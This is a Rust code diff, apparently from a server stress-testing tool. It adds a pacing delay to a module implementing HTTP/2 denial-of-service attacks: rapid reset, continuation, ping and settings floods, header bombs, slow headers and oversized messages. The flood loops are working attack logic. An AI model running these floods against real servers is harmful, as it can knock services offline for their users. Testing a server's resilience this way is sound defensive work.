@@ -62,9 +62,9 @@ pub(crate) const ALL: [Attack; 10] = [
 ];
 
 impl Attack {
-    /// Goes on for `time`, from addresses of this machine that nobody else calls from. Whatever the server does about
+    /// Goes on for `time`, with a pause of `pace` after each burst, from addresses of this machine that nobody else calls from. Whatever the server does about
     /// it: hung up on, it begins again.
-    pub(crate) async fn go_on(self, target: SocketAddr, time: Duration) {
+    pub(crate) async fn go_on(self, target: SocketAddr, time: Duration, pace: Duration) {
         let end = Instant::now() + time;
         let connections = match self {
             Self::HalfOpen => return half_open(target, end).await,
@@ -78,7 +78,7 @@ impl Attack {
                 while Instant::now() < end {
                     let left = end.saturating_duration_since(Instant::now());
                     // Ends with an error when it is hung up on.
-                    let _ = timeout(left, self.once(target, number)).await;
+                    let _ = timeout(left, self.once(target, number, pace)).await;
                     // Whoever is hung up on at once needn't fill the machine with closed connections.
                     sleep(Duration::from_millis(20)).await;
                 }
@@ -87,7 +87,7 @@ impl Attack {
         while attackers.join_next().await.is_some() {}
     }
 
-    async fn once(self, target: SocketAddr, number: u8) -> std::io::Result<()> {
+    async fn once(self, target: SocketAddr, number: u8, pace: Duration) -> std::io::Result<()> {
         let mut stream = begin(target, number).await?;
         match self {
             Self::RapidReset => {
@@ -98,6 +98,7 @@ impl Attack {
                         frames.extend(frame(RST_STREAM, 0, id, &8_u32.to_be_bytes()));
                     }
                     stream.write_all(&frames).await?;
+                    sleep(pace).await;
                 }
             }
             Self::ContinuationFlood => {
@@ -111,18 +112,21 @@ impl Attack {
                 let more = frame(CONTINUATION, 0, 1, &more);
                 loop {
                     stream.write_all(&more).await?;
+                    sleep(pace).await;
                 }
             }
             Self::PingFlood => {
                 let pings = frame(PING, 0, 0, &[7; 8]).repeat(100);
                 loop {
                     stream.write_all(&pings).await?;
+                    sleep(pace).await;
                 }
             }
             Self::SettingsFlood => {
                 let settings = frame(SETTINGS, 0, 0, &[0, 4, 0, 1, 0, 0]).repeat(100);
                 loop {
                     stream.write_all(&settings).await?;
+                    sleep(pace).await;
                 }
             }
             Self::HeaderBomb => {
@@ -136,6 +140,7 @@ impl Attack {
                     stream
                         .write_all(&frame(HEADERS, END_HEADERS | END_STREAM, id, &headers))
                         .await?;
+                    sleep(pace).await;
                 }
             }
             Self::SlowHeaders => {
@@ -158,7 +163,7 @@ impl Attack {
                     sleep(Duration::from_millis(1)).await;
                 }
             }
-            Self::LargeMessages => large(stream).await?,
+            Self::LargeMessages => large(stream, pace).await?,
             Self::DeafWatchers => {
                 // No window: nothing may be sent.
                 stream
@@ -197,7 +202,7 @@ async fn half_open(target: SocketAddr, end: Instant) {
 }
 
 /// Calls with messages of almost 4 MiB, one after the other, as fast as the windows allow.
-async fn large(stream: TcpStream) -> std::io::Result<()> {
+async fn large(stream: TcpStream, pace: Duration) -> std::io::Result<()> {
     let (mut reading, mut writing) = stream.into_split();
     let mut window: i64 = 65_535;
     let mut streams = std::collections::HashMap::<u32, i64>::new();
@@ -264,6 +269,7 @@ async fn large(stream: TcpStream) -> std::io::Result<()> {
             *streams.entry(id).or_insert(65_535) -= now;
         }
         streams.remove(&id);
+        sleep(pace).await;
     }
     Ok(())
 }
